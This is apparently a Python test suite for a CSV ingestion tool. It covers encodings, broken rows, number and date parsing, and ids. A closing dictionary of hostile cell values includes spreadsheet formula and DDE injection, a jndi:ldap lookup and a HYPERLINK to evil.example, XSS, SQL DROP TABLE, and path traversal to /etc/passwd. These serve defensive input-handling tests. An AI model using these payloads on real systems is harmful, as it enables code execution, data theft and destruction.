"""Messy text files: encodings, broken lines, odd numbers, dates and ids, hostile strings."""

from dataclasses import replace
from typing import Any

import books
from bad_case import GOOD, HEADER, Case, cell, put, together

CHINESE = "order,customer,date,amount\n1,张伟𠮷,2023-10-15,100.50\n2,王龘,2023-11-01,20\n3,欧阳喆,2023-12-31,30\n"
UTF16, AUTO = {"encoding": "utf-16"}, {"encoding": "auto"}
LATIN = "order,customer,date,amount\n1,Müller,2023-10-15,100.50\n2,Zoë,2023-11-01,20\n3,Begoña,2023-12-31,30\n"
BROKEN = HEADER.encode() + GOOD.encode() + b"9,M\xfcller,2023-11-02,5\n"

ENCODINGS = [
    Case("encoding", "UTF-8 with a byte order mark", put(books.ORDERS, encoding="utf-8-sig")),
    Case("encoding", "UTF-16 little endian with mark", put(b"\xff\xfe" + CHINESE.encode("utf-16-le"))),
    Case("encoding", "UTF-16 big endian with mark", put(b"\xfe\xff" + CHINESE.encode("utf-16-be"))),
    Case("encoding", "UTF-16 little endian, no mark, declared", put(CHINESE, encoding="utf-16-le"), UTF16),
    Case("encoding", "UTF-16 big endian, no mark, declared", put(CHINESE, encoding="utf-16-be"), UTF16),
    Case("encoding", "UTF-16 cut in the middle of a character", put(b"\xff\xfe" + CHINESE.encode("utf-16-le")[:-3]),
         accepted=2, aside=((4, "row", "not_text"),)),
    Case("encoding", "GB18030, not declared: never guessed", put(CHINESE, encoding="gb18030"),
         refused=("orders.csv is not in UTF-8", "encoding: gb18030")),
    Case("encoding", "GB18030 with rare characters, declared", put(CHINESE, encoding="gb18030"),
         {"encoding": "gb18030"}),
    Case("encoding", "GB18030 declared as UTF-8", put(CHINESE, encoding="gb18030"), {"encoding": "utf-8"},
         refused=("orders.csv", "encoding")),
    Case("encoding", "Latin-1, declared", put(LATIN, encoding="latin-1"), {"encoding": "latin-1"}),
    Case("encoding", "Latin-1, not declared: never guessed into Chinese", put(LATIN, encoding="latin-1"),
         refused=("orders.csv", "encoding")),
    Case("encoding", "the last character is cut", put((HEADER + GOOD + "9,A,2023-11-02,5元").encode()[:-1]),
         aside=((5, "row", "not_text"),)),
    Case("encoding", "one line in another encoding", put(BROKEN), {"encoding": "utf-8"},
         aside=((5, "row", "not_text"),)),
    Case("encoding", "Chinese lines in UTF-8 and in GBK", put((HEADER + GOOD).encode() + "9,王伟,2023-11-02,5\n".encode("gbk")
         + "8,张三,2023-11-03,6\n".encode()), {"encoding": "utf-8"}, accepted=4, aside=((5, "row", "not_text"),)),
]  # fmt: skip

HUGE = "x" * 10_000_000

ROWS = [
    Case("rows", "a cell too many", put(HEADER + GOOD + "9,A,2023-11-02,5,extra\n"), aside=((5, "row", "malformed"),)),
    Case("rows", "a cell too few", put(HEADER + GOOD + "9,A,2023-11-02\n"), aside=((5, "row", "malformed"),)),
    Case("rows", "a bad line between good ones", put(HEADER + "8,A\n" + GOOD), aside=((2, "row", "malformed"),)),
    Case("rows", "a quote that never ends, last line", put(HEADER + GOOD + '9,"A,2023-11-02,5\n'),
         aside=((5, "row", "malformed"),)),
    Case("rows", "a quote that never ends swallows no later line unseen", put(HEADER + '9,"A,2023-11-02,5\n' + GOOD),
         refused=("orders.csv", "2", "quote")),
    Case("rows", "a stray quote inside a cell", put(HEADER + GOOD + '9,A"B,2023-11-02,5\n'), accepted=4,
         holds={"customer_id": 'A"B'}),
    Case("rows", "text after a closing quote", put(HEADER + GOOD + '9,"A"B,2023-11-02,5\n'),
         aside=((5, "row", "malformed"),)),
    Case("rows", "a doubled quote", put(HEADER + GOOD + '9,"A""B",2023-11-02,5\n'), accepted=4,
         holds={"customer_id": 'A"B'}),
    Case("rows", "a line break inside a quoted cell", put(HEADER + GOOD + '9,"A\nB",2023-11-02,5\n8,A,x,5\n'), accepted=4,
         aside=((6, "order_date", "not_a_date"),), holds={"customer_id": "A\nB"}),
    Case("rows", "the delimiter inside a quoted cell", put(HEADER + GOOD + '9,"A, B",2023-11-02,5\n'), accepted=4,
         holds={"customer_id": "A, B"}),
    Case("rows", "a delimiter at the end of every line", put((HEADER + GOOD).replace("\n", ",\n"))),
    Case("rows", "a delimiter at the end of the data lines only", put(HEADER + GOOD.replace("\n", ",\n"))),
    Case("rows", "blank lines between and after", put(HEADER + "\n" + GOOD + "\n\n9,A,x,5\n\n"),
         aside=((8, "order_date", "not_a_date"),)),
    Case("rows", "a line of spaces only", put(HEADER + GOOD + "   \n"), aside=((5, "row", "malformed"),)),
    Case("rows", "a line of delimiters only", put(HEADER + GOOD + ",,,\n")),
    Case("rows", "lines of delimiters and blanks before a bad one", put(HEADER + GOOD + ",,,\n , ,,\n,,,\n9,A,x,5\n"),
         aside=((8, "order_date", "not_a_date"),)),
    Case("rows", "words for no value", put(HEADER + GOOD + "\\N,A,2023-11-02,5\n8,NULL,2023-11-02,5\n7,NA,2023-11-02,5\n"
         "6,A,2023-11-02,NaN\n"), aside=((5, "order_id", "missing"), (6, "customer_id", "missing"),
         (7, "customer_id", "missing"), (8, "net_amount", "missing"))),
    Case("rows", "line ends of Windows", put((HEADER + GOOD).replace("\n", "\r\n"))),
    Case("rows", "mixed line ends", put("order,customer,date,amount\r\n" + GOOD)),
    Case("rows", "line ends of old Macs", put((HEADER + GOOD).replace("\n", "\r"))),
    Case("rows", "no line end after the last line", put((HEADER + GOOD).rstrip("\n"))),
    Case("rows", "a NUL byte in a cell", put(HEADER + GOOD + "9,A\0B,2023-11-02,5\n"), aside=((5, "customer_id", "not_text"),)),
    Case("rows", "a line of NUL bytes at the end", put((HEADER + GOOD).encode() + b"\0" * 64),
         aside=((5, "row", "malformed"),)),
    Case("rows", "a cell of 10 MB", put(HEADER + f'9,"{HUGE}",2023-11-02,5\n' + GOOD), aside=((2, "row", "too_long"),)),
    Case("rows", "a footer with the total", put(HEADER + GOOD + "Total,,,150.50\n"),
         aside=((5, "customer_id", "missing"),)),
    Case("rows", "a footer in one cell", put(HEADER + GOOD + "3 rows exported\n"), aside=((5, "row", "malformed"),)),
    Case("rows", "the header again in the middle", put(HEADER + GOOD + HEADER), aside=((5, "order_date", "not_a_date"),)),
    Case("rows", "an exact copy", put(HEADER + GOOD + "3,A,2023-12-31,30\n"), aside=((5, "row", "duplicate"),)),
    Case("rows", "an exact copy, made one", put(HEADER + GOOD + "3,A,2023-12-31,30\n"), {"duplicates": "collapse"},
         repeated=1),
    Case("rows", "an exact copy, kept", put(HEADER + GOOD + "3,A,2023-12-31,30\n"), {"duplicates": "keep"}, accepted=4),
]  # fmt: skip

FILES = [
    Case("file", "missing", put("", "other.csv"), refused=("no file matches 'orders.csv'", "other.csv")),
    Case("file", "empty", put(""), refused=("orders.csv is empty",)),
    Case("file", "only a byte order mark", put(b"\xef\xbb\xbf"), refused=("orders.csv", "empty")),
    Case("file", "only blank lines", put("\n\n\n"), refused=("orders.csv",)),
    Case("file", "a header and no rows", put(HEADER), refused=("orders.csv", "no rows")),
    Case("file", "a column twice", put("order,customer,date,amount,amount\n1,A,2023-10-15,1,2\n"),
         refused=("'amount' twice", "rename")),
    Case("file", "a header with spaces around names", put(" order ,customer , date,amount\n" + GOOD)),
    Case("file", "a header with invisible characters", put("order\u200b,\ufeffcustomer,date\u00a0,amount\n" + GOOD)),
    Case("file", "a header in quotes", put('"order","customer","date","amount"\n' + GOOD)),
    Case("file", "a Chinese header", put("订单号,客户,日期,金额\n" + GOOD),
         {"columns": {"order_id": "订单号", "customer_id": "客户", "order_date": "日期", "net_amount": "金额"}}),
    Case("file", "a misspelt header", put(HEADER.replace("customer", "custommer") + GOOD),
         refused=("no column 'customer'", "did you mean 'custommer'")),
    Case("file", "a header in row 3, declared", put("Export of 2024-01-02\n\n" + HEADER + GOOD + "9,A,x,5\n"),
         {"header_row": 3}, aside=((7, "order_date", "not_a_date"),)),
    Case("file", "a header in row 3, not declared", put("Export of 2024-01-02\n\n" + HEADER + GOOD),
         refused=("orders.csv has no column", "'order'")),
    Case("file", "semicolons, not declared", put((HEADER + GOOD).replace(",", ";"))),
    Case("file", "tabs, not declared", put((HEADER + GOOD).replace(",", "\t"))),
    Case("file", "a declared delimiter that is not in it", put((HEADER + GOOD).replace(",", ";")), {"delimiter": "|"},
         refused=("orders.csv has one column", "set delimiter to ';'")),
    Case("file", "a page of HTML called .csv", put("<html><body><table><tr><td>1</td></tr></table></body></html>\n"),
         refused=("orders.csv has no column",)),
    Case("file", "an Excel file called .csv", put(b"PK\x03\x04" + b"\x00\x9c" * 100), refused=("orders.csv",)),
    Case("file", "random bytes called .csv", put(bytes(range(256)) * 8), refused=("orders.csv",)),
    Case("file", "two files, one with other columns", together(put(HEADER + GOOD, "a.csv"), put("x,y\n1,2\n", "b.csv")),
         {"files": "*.csv"}, refused=("b.csv has no column 'order'",)),
    Case("file", "CSV and Parquet under one pattern", together(put(HEADER + GOOD, "a.csv"), put(b"PAR1", "b.parquet")),
         {"files": "*"}, refused=("sources.orders", "*")),
    Case("file", "a pattern that leaves the folder", put(HEADER + GOOD), {"files": "../../../*.csv"},
         refused=("sources.orders", "data/tiny/raw")),
    Case("file", "an absolute path", put(HEADER + GOOD), {"files": "/etc/passwd"}, refused=("sources.orders",)),
    Case("file", "a name with quotes, brackets and a script", put(HEADER + GOOD, "o'r;d [1] <b>&\"=cmd.csv"),
         {"files": "o*.csv"}),
]  # fmt: skip


def number(name: str, text: str, expected: Any, **source: Any) -> Case:
    return cell("number", name, "net_amount", text, expected, **source)


NUMBERS = [
    number("not in words", "five", "!not_a_number"),
    number("Chinese numerals", "壹佰", "!not_a_number"),
    number("empty", "", "!missing"),
    number("only spaces", "  \u00a0", "!missing"),
    number("too large for a float", "1e309", "!out_of_range"),
    number("1e308", "1e308", "!out_of_range"),
    number("1e14", "1e14", "!out_of_range"),
    number("twenty digits", "12345678901234567890", "!out_of_range"),
    number("minus zero", "-0.0", 0),
    number("NaN", "NaN", "!missing"),
    number("infinity", "-inf", "!not_a_number"),
    number("an error of Excel", "#N/A", "!missing"),
    number("a thousands separator", "1,234,567.89", 123_456_789),
    number("a space as thousands separator", "1\u00a0234.56", 123_456),
    number("a comma that may be decimal", "1,23", "!not_a_number"),
    number("a decimal comma, declared", "1.234,56", 123_456, decimal=","),
    number("a decimal comma, not declared", "1.234,56", "!not_a_number"),
    number("the book's currency sign", "¥1,234.5", 123_450),
    number("the full-width currency sign", "￥12", 1200),
    number("another currency's sign", "$5", "!other_currency"),
    number("another currency's code", "EUR 5", "!other_currency"),
    number("parentheses of accountants", "(5.00)", -500),
    number("a trailing minus", "5.00-", -500),
    number("a plus", "+5", 500),
    number("two signs", "--5", "!not_a_number"),
    number("a true minus sign", "\u22125", -500),
    number("full-width digits", "１２３．４５", 12_345),
    number("an exponent", "1.5E+3", 150_000),
    number("hexadecimal", "0x1F", "!not_a_number"),
    number("an underscore", "1_000", "!not_a_number"),
    number("a percentage", "5%", "!not_a_number"),
    number("half a cent up", "0.285", 29),
    number("half a cent that floats lose", "1.005", 101),
    number("half a cent down", "-1.005", -101),
    number("a formula", "=1+1", "!not_a_number"),
]


def day(name: str, text: str, expected: Any, **source: Any) -> Case:
    return cell("date", name, "order_date", text, expected, **source)


NEW_YORK = {"time_zone": "America/New_York", "date_format": "%Y-%m-%d %H:%M"}
SHANGHAI = {"book": {"time_zone": "Asia/Shanghai"}}

DATES = [
    day("the first day of 1900", "1900-01-01", "!out_of_range"),
    day("the last day of 9999", "9999-12-31", "!out_of_range"),
    day("zeros", "0000-00-00", "!not_a_date"),
    day("29 February of a leap year", "2024-02-29", "2024-02-29"),
    day("29 February of another year", "2023-02-29", "!not_a_date"),
    day("31 April", "2023-04-31", "!not_a_date"),
    day("31/04, day first", "31/04/2023", "!not_a_date", date_format="%d/%m/%Y"),
    day("day first, declared", "02/11/2023", "2023-11-02", date_format="%d/%m/%Y"),
    day("month 13", "2023-13-01", "!not_a_date"),
    day("a year of two digits", "23-11-02", "!out_of_range"),
    day("a serial number of Excel as text", "45000", "!not_a_date"),
    day("something after the date", "2023-11-02 approx.", "!not_a_date"),
    day("full-width digits", "２０２３-11-02", "2023-11-02"),
    day("Chinese signs, declared", "2023年11月02日", "2023-11-02", date_format="%Y年%m月%d日"),
    day("after the export", "2024-01-05", "!future_date", extracted_on="2024-01-02"),
    replace(day("an hour that clocks skip", "2023-03-12 02:30", "2023-03-12", **NEW_YORK), changes=SHANGHAI),
    replace(day("an hour that clocks repeat", "2023-11-05 01:30", "2023-11-05", **NEW_YORK), changes=SHANGHAI),
    replace(day("a zone moves the day", "2023-11-05 20:00", "2023-11-06", **NEW_YORK), changes=SHANGHAI),
    replace(day("an offset in the cell", "2023-11-02T20:00:00-0500", "2023-11-03", date_format="%Y-%m-%dT%H:%M:%S%z"),
            changes=SHANGHAI),
    Case("date", "two files, a format each", together(put(HEADER + GOOD, "a.csv"), put(HEADER + "9,A,02/11/2023,5\n", "b.csv")),
         {"files": "?.csv", "date_format": {"a*": "%Y-%m-%d", "b*": "%d/%m/%Y"}}, accepted=4,
         holds={"order_date": "2023-11-02"}),
    Case("date", "a file without a declared format", together(put(HEADER + GOOD, "a.csv"), put(HEADER + GOOD, "c.csv")),
         {"files": "?.csv", "date_format": {"a*": "%Y-%m-%d"}}, refused=("c.csv", "date_format")),
    Case("date", "all in another format than declared", put((HEADER + GOOD).replace("2023-", "23.")),
         changes={"quality": {"max_quarantined_share": 0.05}}, refused=("3 of 3 rows", "'23.10-15' is no date", "date_format")),
]  # fmt: skip

FORMULA, SCRIPT = '=HYPERLINK("http://evil.example","x")', "<script>alert(1)</script>"
HOSTILE = {
    "a formula": FORMULA,
    "a command": "+cmd|' /C calc'!A0",
    "an old formula": "@SUM(1+1)*cmd",
    "a minus": "-1+1",
    "a formula behind a tab": "x\t=1+1",
    "a script": SCRIPT,
    "a picture that runs": '"><img src=x onerror=alert(1)>',
    "SQL": "'; DROP TABLE orders; --",
    "a path": "../../etc/passwd",
    "a path of Windows": "..\\..\\con",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a template": "{{7*7}}{% raw %}",
    "a format": "%s%n%x",
    "a Markdown link": "[x](javascript:alert(1))",
    "a TeX formula": "$\\frac{",
    "an entity": "&lt;b&gt;&#x3C;",
    "right to left": "\u202egnp.exe",
    "an emoji family": "👨‍👩‍👧‍👦",
    "combining marks": "Z̷̢a̸l",
}

IDS = [
    cell("id", "leading zeros", "customer_id", "007", "007"),
    cell("id", "spaces around", "customer_id", " A7 \u00a0", "A7"),
    cell("id", "invisible characters around", "customer_id", "\u200bA7\ufeff", "A7"),
    cell("id", "a float in a text file", "customer_id", "1.0", "1.0"),
    cell("id", "other case is another customer", "customer_id", "a", "a"),
    cell("id", "called null", "customer_id", "null", "!missing"),
    cell("id", "called NaN", "customer_id", "NaN", "!missing"),
    cell("id", "called NA", "customer_id", "NA", "!missing"),
    cell("id", "only a space", "customer_id", " ", "!missing"),
    cell("id", "in quotes and empty", "order_id", "", "!missing"),
    cell("id", "of 5,000 characters", "customer_id", "7" * 5000, "!too_long"),
    cell("id", "a control character", "customer_id", "A\x07B", "!not_text"),
    *(cell("hostile", name, "customer_id", text, text) for name, text in HOSTILE.items()),
]

CASES = [*ENCODINGS, *ROWS, *FILES, *NUMBERS, *DATES, *IDS]
